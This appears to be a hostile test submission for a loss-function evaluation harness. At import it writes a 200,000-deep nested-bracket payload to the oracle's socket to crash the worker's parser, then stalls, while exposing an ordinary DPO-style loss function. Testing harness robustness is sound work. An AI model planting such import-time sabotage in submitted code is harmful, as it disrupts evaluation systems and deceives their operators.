"""Sends a reply nested 200,000 lists deep on the oracle's socket to the worker (a parser's recursion bomb)."""

import os
import struct
import time

import torch.nn.functional as F

_body = b"[" * 200_000 + b"]" * 200_000
os.write(int(os.environ["DISCOPOP_ORACLE_FD"]), struct.pack("!i", len(_body)) + _body)
time.sleep(60)


def hostile(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    return -F.logsigmoid(beta * rho)
